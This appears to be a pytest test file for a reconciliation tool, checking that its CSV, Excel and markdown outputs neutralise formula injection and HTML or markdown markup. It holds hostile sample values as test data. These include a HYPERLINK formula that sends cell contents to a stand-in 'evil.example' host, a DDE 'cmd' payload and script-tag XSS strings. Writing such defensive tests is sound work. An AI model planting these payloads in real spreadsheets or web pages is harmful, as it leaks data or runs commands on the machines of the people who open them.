"""Text from outside is data, never code: CSV formula injection (OWASP "CSV Injection"), XLSX
formulas, markdown/HTML in artifacts. The hostile values are the ones of issue 16."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from revops.escaping import csv_cell, csv_safe, is_formula_like, markdown_text
from revops.tasks.outputs import summary_markdown, write_reconciliation_files
from tests.test_demo import reconcile_demo

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.50", "+3", "1e5", "Acme", "", "a=b", "in_123"])
def test_numbers_and_plain_text_are_unchanged(text: str) -> None:
    assert csv_cell(text) == text


def test_csv_safe_escapes_text_columns_only() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.Series(["Acme", "=1+1", None, "-5"], dtype="str"),
            "amount_minor": pd.Series([-100, 200, 0, -5], dtype="int64"),
            "mixed": pd.Series(["@x", 3, None, "ok"], dtype=object),
        }
    )
    safe = csv_safe(frame)
    assert safe["name"].tolist()[:2] == ["Acme", "'=1+1"] and pd.isna(safe["name"].iloc[2])
    assert safe["name"].iloc[3] == "-5"
    assert safe["amount_minor"].tolist() == [-100, 200, 0, -5]
    assert safe["amount_minor"].dtype == "int64"
    assert safe["mixed"].tolist()[:2] == ["'@x", 3]


def test_csv_safe_passes_an_object_column_of_only_empty_cells(
    recwarn: pytest.WarningsRecorder,
) -> None:
    # Such a column (NaN and None, no text) once made csv_safe fill a float mask with False,
    # which pandas warns will raise.
    frame = pd.DataFrame({"memo": pd.Series([np.nan, None], dtype=object), "n": [1, 2]})
    safe = csv_safe(frame)
    assert safe["memo"].isna().all() and safe["n"].tolist() == [1, 2]
    assert not [w for w in recwarn if "fill value" in str(w.message)]


def test_markdown_text_shows_html_and_markup_as_text() -> None:
    shown = markdown_text("<img src=x onerror=alert(1)> [click](http://evil) | **b**\nnext")
    assert "<" not in shown and "&lt;img" in shown
    assert "\\[click\\]\\(http://evil\\)" in shown
    assert "\\|" in shown and "\\*\\*b\\*\\*" in shown and "\n" not in shown
    assert markdown_text(None) == "" and markdown_text(float("nan")) == ""


@pytest.fixture(scope="module")
def hostile_result(demo_source):
    """The demo reconciliation with a hostile invoice id, account and detail on one finding."""
    result = reconcile_demo(demo_source)
    findings = result.findings.copy()
    findings.loc[findings.index[0], ["invoice_id", "account_id", "detail"]] = [
        HYPERLINK,
        "@SUM(A1:A9)",
        "<script>alert(1)</script> [x](http://evil)",
    ]
    findings.loc[findings.index[1], "detail"] = "#DIV/0!"  # an error code Excel would show
    return dataclasses.replace(result, findings=findings)


def test_reconciliation_outputs_hold_hostile_text_as_text(hostile_result, tmp_path: Path) -> None:
    markdown = summary_markdown(hostile_result, "rec-x", "demo", top=10_000)
    write_reconciliation_files(hostile_result, "rec-x", markdown, tmp_path)

    findings = pd.read_csv(tmp_path / "reconciliation.csv", dtype=str, keep_default_na=False)
    assert findings["invoice_id"].iloc[0] == "'" + HYPERLINK
    assert findings["account_id"].iloc[0] == "'@SUM(A1:A9)"
    assert not findings["invoice_id"].str.startswith(("=", "+", "@")).any()
    numbers = pd.read_csv(tmp_path / "reconciliation.csv")["variance_minor"].dropna()
    assert numbers.dtype.kind in "if" and (numbers < 0).any()  # negative numbers stay numbers

    sheet = load_workbook(tmp_path / "reconciliation.xlsx")["Exceptions"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("invoice_id") + 1)
    assert cell.value == HYPERLINK and cell.data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "#DIV/0!" in {c.value for c in cells} and {c.data_type for c in cells} == {"s"}

    assert "<script>" not in markdown and "&lt;script&gt;" in markdown
    assert "\\[x\\]\\(http://evil\\)" in markdown
